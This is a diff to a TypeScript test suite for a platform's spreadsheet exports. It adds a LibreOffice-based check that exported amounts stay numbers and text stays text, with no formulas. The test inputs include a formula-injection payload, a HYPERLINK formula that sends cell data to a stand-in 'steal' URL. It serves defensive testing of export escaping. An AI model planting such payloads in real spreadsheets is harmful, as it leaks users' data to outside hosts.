@@ -1,3 +1,8 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
 import ExcelJS from 'exceljs';
 import { startPlatform, type RunningPlatform } from '../../../test/platform';
 import { SPIJKERKWARTIER, tokenOf } from '../../../test/people';
@@ -44,6 +49,42 @@ function excelRecord(line: string): { text: string; quoted: boolean }[] {
     }
   }
   return cells;
+}
+
+interface OdsCell {
+  type: string | null;
+  value: string | null;
+  text: string;
+  formula: string | null;
+}
+
+/** The sheets of a flat OpenDocument spreadsheet (what `soffice --convert-to fods` writes): name → rows of cells. */
+function flatOdsSheets(xml: string): Map<string, OdsCell[][]> {
+  const attributes = (text: string) => new Map([...text.matchAll(/([\w:-]+)="([^"]*)"/g)].map((m) => [m[1], m[2]]));
+  const unescape = (text: string) =>
+    text
+      .replace(/<text:s\/>/g, ' ')
+      .replace(/<[^>]+>/g, '')
+      .replace(/&apos;/g, "'")
+      .replace(/&quot;/g, '"')
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>')
+      .replace(/&amp;/g, '&');
+  const sheets = new Map<string, OdsCell[][]>();
+  for (const table of xml.matchAll(/<table:table table:name="([^"]*)"[^>]*>([\s\S]*?)<\/table:table>/g)) {
+    const rows: OdsCell[][] = [];
+    for (const row of table[2].matchAll(/<table:table-row[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)) {
+      const cells: OdsCell[] = [];
+      for (const cell of (row[1] ?? '').matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
+        const a = attributes(cell[1]);
+        const one: OdsCell = { type: a.get('office:value-type') ?? null, value: a.get('office:value') ?? a.get('office:date-value') ?? a.get('office:boolean-value') ?? null, text: unescape((cell[2] ?? '').replace(/<\/text:p><text:p>/g, '\n')), formula: a.get('table:formula') ?? null };
+        for (let n = Number(a.get('table:number-columns-repeated') ?? 1); n > 0; n--) cells.push(one);
+      }
+      if (cells.some((c) => c.type !== null)) rows.push(cells);
+    }
+    sheets.set(table[1], rows);
+  }
+  return sheets;
 }
 
 const FORMULA_TITLES = ['=1+1', '=HYPERLINK("https://example.org/steal?d="&A1,"klik")', '+31 6 1234', '-Nee-', '@SUM(A1)', "'t Spijker", '＝1+1'];
@@ -226,4 +267,66 @@ describe('exports for spreadsheets', () => {
       expect(((await response.json()) as any).detail).toMatch(detail);
     }
   });
+
+  /*
+   * LibreOffice Calc headless in a Dutch locale (LANG=nl_NL.UTF-8, and language 1043 with `;` and quoted
+   * fields as text in the CSV import options, as a Dutch user chooses them) opens the excel CSV and the xlsx
+   * of the tables with amounts, taakvelden and formula-like text; converted to flat ODS, every amount is a
+   * number, every text cell text, and no cell a formula.
+   */
+  it('opens in LibreOffice in a Dutch locale with every amount a number, every text cell text and no formula', async () => {
+    const folder = await mkdtemp(join(tmpdir(), 'dbwe-soffice-'));
+    try {
+      const tables = ['sroi_analyses', 'ledger_lines', 'bids', 'wishes', 'projects'];
+      const pkg = (await (await get('datapackage.json')).json()) as any;
+      for (const table of tables) {
+        await writeFile(join(folder, `${table}.csv`), Buffer.from(await (await get(`${table}.csv?dialect=excel`)).arrayBuffer()));
+        await writeFile(join(folder, `${table}.xlsx`), Buffer.from(await (await get(`${table}.xlsx`)).arrayBuffer()));
+      }
+      const soffice = (args: string[]) =>
+        promisify(execFile)('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'fods', '--outdir', join(folder, 'out'), ...args], {
+          env: { ...process.env, LANG: 'nl_NL.UTF-8', LC_ALL: 'nl_NL.UTF-8' },
+          timeout: 180_000,
+        });
+      // 59 = ';', 34 = '"', 76 = UTF-8, from line 1, no column types, language 1043 (Dutch), quoted fields as text.
+      await soffice(['--infilter=CSV:59,34,76,1,,1043,true,false', ...tables.map((t) => join(folder, `${t}.csv`))]);
+      const fromCsv = new Map<string, OdsCell[][]>();
+      for (const table of tables) fromCsv.set(table, flatOdsSheets(await readFile(join(folder, 'out', `${table}.fods`), 'utf8')).get(table)!);
+      await soffice(tables.map((t) => join(folder, `${t}.xlsx`)));
+      const fromXlsx = new Map<string, OdsCell[][]>();
+      for (const table of tables) fromXlsx.set(table, flatOdsSheets(await readFile(join(folder, 'out', `${table}.fods`), 'utf8')).get(table)!);
+
+      for (const [source, converted] of [['csv', fromCsv], ['xlsx', fromXlsx]] as const) {
+        for (const table of tables) {
+          const fields = pkg.resources.find((r: any) => r.name === table).schema.fields;
+          const jsonl = (await (await get(`${table}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
+          const [header, ...rows] = converted.get(table)!;
+          expect(header.slice(0, fields.length).map((c) => c.text)).toEqual(fields.map((f: any) => f.name));
+          expect({ source, table, rows: rows.length }).toEqual({ source, table, rows: jsonl.length });
+          rows.forEach((row, r) => {
+            fields.forEach((field: any, i: number) => {
+              const cell = row[i] ?? { type: null, value: null, text: '', formula: null };
+              const given = jsonl[r][field.name];
+              const where = { source, table, field: field.name, given };
+              expect({ ...where, formula: cell.formula }).toEqual({ ...where, formula: null });
+              if (given === null || given === '') return;
+              if (field.type === 'number' || field.type === 'integer') {
+                expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'float' });
+                expect({ ...where, value: Number(cell.value) }).toEqual({ ...where, value: Number(given) });
+              }
+              if (field.type === 'string') {
+                expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'string' });
+                if (!/^['=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(given)) expect({ ...where, text: cell.text }).toEqual({ ...where, text: given });
+                else expect({ ...where, text: cell.text }).toEqual({ ...where, text: `'${given}` });
+              }
+              if (source === 'xlsx' && (field.type === 'date' || field.type === 'datetime')) expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'date' });
+              if (source === 'xlsx' && field.type === 'boolean') expect({ ...where, type: cell.type }).toEqual({ ...where, type: 'boolean' });
+            });
+          });
+        }
+      }
+    } finally {
+      await rm(folder, { recursive: true, force: true });
+    }
+  }, 600_000);
 });
